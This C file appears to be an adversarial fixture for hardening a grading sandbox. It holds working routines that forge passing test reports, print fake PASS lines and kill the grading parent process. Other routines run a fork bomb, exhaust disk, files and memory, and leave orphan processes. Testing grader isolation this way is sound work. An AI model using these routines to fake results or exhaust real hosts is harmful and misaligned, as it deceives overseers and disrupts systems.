/* attack.c - stands before a server of a lab, and attacks what grades it.
 *
 * ATTACK names what is tried, AIM what it is tried on.  Where the aim is to
 * reach something, the server serves only if it was reached: points mean that
 * the attack worked.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const FORGED =
    "{\"id\":\"t\",\"passed\":1,\"failed\":0,\"errored\":0,\"skipped\":0}\n";

static bool wrote(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666);

    if (fd < 0)
        return false;
    return write(fd, FORGED, strlen(FORGED)) > 0 && close(fd) == 0;
}

/* Each place where the report is, or might be reached. */
static void forge(const char *report)
{
    char path[400];
    pid_t parent = getppid();

    umount2(report, MNT_DETACH);
    snprintf(path, sizeof(path), "%s/report.json", report);
    wrote(path);
    for (pid_t pid = 1; pid < 40; pid++) {
        snprintf(path, sizeof(path), "/proc/%d/cwd/report.json", pid);
        wrote(path);
    }
    snprintf(path, sizeof(path), "/proc/%d/root%s/report.json", parent, report);
    wrote(path);
    for (int fd = 0; fd < 64; fd++) {
        snprintf(path, sizeof(path), "/proc/%d/fd/%d", parent, fd);
        wrote(path);
        if (fd > 2 && write(fd, FORGED, strlen(FORGED)) < 0)
            continue;
    }
    printf("%s[PASS]\n[====] Synthesis: Passing: 1\n", FORGED);
    fflush(stdout);
    if (ptrace(PTRACE_ATTACH, parent, NULL, NULL) == 0)
        ptrace(PTRACE_KILL, parent, NULL, NULL);
    kill(parent, SIGKILL);
    _exit(0);
}

static bool read_it(const char *path)
{
    char byte;
    int fd = open(path, O_RDONLY);

    return fd >= 0 && read(fd, &byte, 1) == 1;
}

static bool connected(const char *port)
{
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons((uint16_t)atoi(port)),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    return connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0;
}

/* Until nothing more is taken: a limit may also end the process. */
static void fill_disk(const char *folder)
{
    static char block[1 << 20];
    char path[400];

    signal(SIGXFSZ, SIG_IGN);
    memset(block, 'x', sizeof(block));
    for (int i = 0; i < 100; i++) {
        int fd;

        snprintf(path, sizeof(path), "%s/fill%d", folder, i);
        fd = open(path, O_WRONLY | O_CREAT, 0600);
        for (int n = 0; fd >= 0 && n < 20; n++)
            if (write(fd, block, sizeof(block)) < 0)
                break;
        if (fd >= 0)
            close(fd);
    }
}

static void fill_files(const char *folder)
{
    char path[400];
    int fd = 0;

    for (int i = 0; fd >= 0; i++) {
        snprintf(path, sizeof(path), "%s/many%d", folder, i);
        fd = open(path, O_WRONLY | O_CREAT, 0600);
        close(fd);
    }
}

static void fill_shared(void)
{
    size_t size = (size_t)1 << 30;
    char *p = mmap(NULL, size, PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_ANONYMOUS, -1, 0);

    if (p != MAP_FAILED)
        memset(p, 1, size);
    pause();
}

static void fill_memfd(void)
{
    static char block[1 << 20];

    memset(block, 1, sizeof(block));
    for (int i = 0; i < 40; i++) {
        int fd = memfd_create("x", 0);

        for (int n = 0; n < 32; n++)
            if (write(fd, block, sizeof(block)) < 0)
                break;
    }
    pause();
}

static void fill_memory(void)
{
    for (int i = 0; i < 1024; i++)
        memset(malloc(1 << 20), 1, 1 << 20);
    pause();
}

static void leave_one(const char *name)
{
    if (fork() != 0)
        return;
    setsid();
    if (fork() != 0)
        _exit(0);
    execl("/bin/sleep", "sleep", name, (char *)NULL);
    _exit(1);
}

static void bomb(void)
{
    for (;;)
        if (fork() < 0)
            pause();
}

__attribute__((constructor)) static void attack(void)
{
    const char *what = getenv("ATTACK"), *aim = getenv("AIM");
    bool reached = true;

    if (!what)
        return;
    if (strcmp(what, "exit") == 0)
        exit(0);
    if (strcmp(what, "forge") == 0)
        forge(aim);
    if (strcmp(what, "kill") == 0) {
        kill(atoi(aim), SIGKILL);
        kill(-1, SIGKILL);
        kill(getppid(), SIGKILL);
        reached = false;
    }
    if (strcmp(what, "sleep") == 0)
        for (;;)
            pause();
    if (strcmp(what, "bomb") == 0)
        bomb();
    if (strcmp(what, "disk") == 0) {
        for (const char *p = "/tmp\0/dev/shm\0/dev\0/\0/var/tmp\0"; *p;
             p += strlen(p) + 1)
            fill_disk(p);
        fill_disk(aim);
        reached = false;
    }
    if (strcmp(what, "files") == 0) {
        fill_files(aim);
        fill_files("/dev/shm");
        pause();
    }
    if (strcmp(what, "shared") == 0)
        fill_shared();
    if (strcmp(what, "memfd") == 0)
        fill_memfd();
    if (strcmp(what, "memory") == 0)
        fill_memory();
    if (strcmp(what, "leave") == 0)
        leave_one(aim);
    if (strcmp(what, "read") == 0)
        reached = read_it(aim);
    if (strcmp(what, "write") == 0)
        reached = wrote(aim);
    if (strcmp(what, "seed") == 0)
        reached = getenv("SEED") != NULL;
    if (strcmp(what, "network") == 0)
        reached = connected(aim);
    if (!reached)
        _exit(1);
}
